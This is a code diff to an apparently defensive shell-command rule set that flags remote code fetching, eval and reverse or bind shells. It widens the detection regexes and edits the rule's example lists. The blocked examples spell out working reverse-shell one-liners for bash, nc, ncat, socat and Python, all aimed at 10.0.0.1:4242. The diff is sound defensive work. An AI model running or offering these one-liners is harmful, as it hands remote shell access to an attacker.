@@ -94,7 +94,7 @@ function sameFile(a: { w: Word; c: SimpleCommand }, b: { w: Word; c: SimpleComma
 }
 
 const FETCH = /\b(urlopen|urllib|requests\.(get|post)|httpx|http\.client|fetch\(|https?\.get|require\(['"]https?['"]\)|Net::HTTP|open-uri|URI\.open|LWP|HTTP::Tiny|file_get_contents\(['"]https?:|curl_exec|DownloadString|Invoke-WebRequest|iwr\b|Net\.WebClient)/;
-const EVAL = /\b(exec|eval|Function|vm\.run\w*|instance_eval|system|IEX|Invoke-Expression|compile)\s*\(|\bIEX\b|\|\s*iex\b|Invoke-Expression/i;
+const EVAL = /\b(exec|eval|Function|vm\.run\w*|instance_eval|system|IEX|Invoke-Expression|compile)\s*\(|\(\s*eval\s*\)|\bIEX\b|\|\s*iex\b|Invoke-Expression/i;
 const SOCKET_SHELL = /socket[\s\S]*(dup2|pty\.spawn|subprocess|\/bin\/(ba)?sh|exec\s*\(|spawn)|(fsockopen|TCPSocket|IO::Socket|net\.Socket|new\s+Socket)[\s\S]*(\/bin\/(ba)?sh|exec|spawn|system|cmd\.exe)/i;
 
 export const REMOTE_CODE_RULES: ShellRule[] = [
@@ -158,7 +158,7 @@ export const REMOTE_CODE_RULES: ShellRule[] = [
     reason: 'connects a shell to the network (a reverse or bind shell)',
     remediation: 'do not expose a shell over the network; use ssh to reach machines',
     examples: {
-      block: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'nc -e /bin/sh 10.0.0.1 4242', 'ncat --exec /bin/bash 10.0.0.1 4242', 'socat exec:"bash -li",pty tcp:10.0.0.1:4242', 'sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5', 'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''],
+      block: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'nc -e /bin/sh 10.0.0.1 4242', 'ncat --exec /bin/bash 10.0.0.1 4242', 'socat exec:"bash -li",pty tcp:10.0.0.1:4242', 'sh -i >& /dev/udp/10.0.0.1/4242 0>&1', 'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''],
       allow: ['nc -zv db.local 5432', 'timeout 1 bash -c "</dev/tcp/localhost/5432"', 'socat TCP-LISTEN:8080,fork TCP:localhost:80', 'ncat -l 8080', 'python3 -c "import socket; print(socket.gethostname())"'],
     },
     match(cmd) {
@@ -166,7 +166,7 @@ export const REMOTE_CODE_RULES: ShellRule[] = [
       const a = cmd.args.map((w) => w.value);
       if (/^(nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(n)) return a.some((x) => /^(-e|-c|--exec|--sh-exec|--lua-exec)$|^-\w*[ec]$|^--(exec|sh-exec)=/.test(x));
       if (n === 'socat') return a.some((x) => /^(exec|system):/i.test(x));
-      if (isShell(n) && cmd.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target.value))) return true;
+      if ((isShell(n) || n === 'exec') && cmd.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target.value))) return true;
       const src = programSource(cmd);
       return !!src && src.inline.some((w) => SOCKET_SHELL.test(w.value));
     },
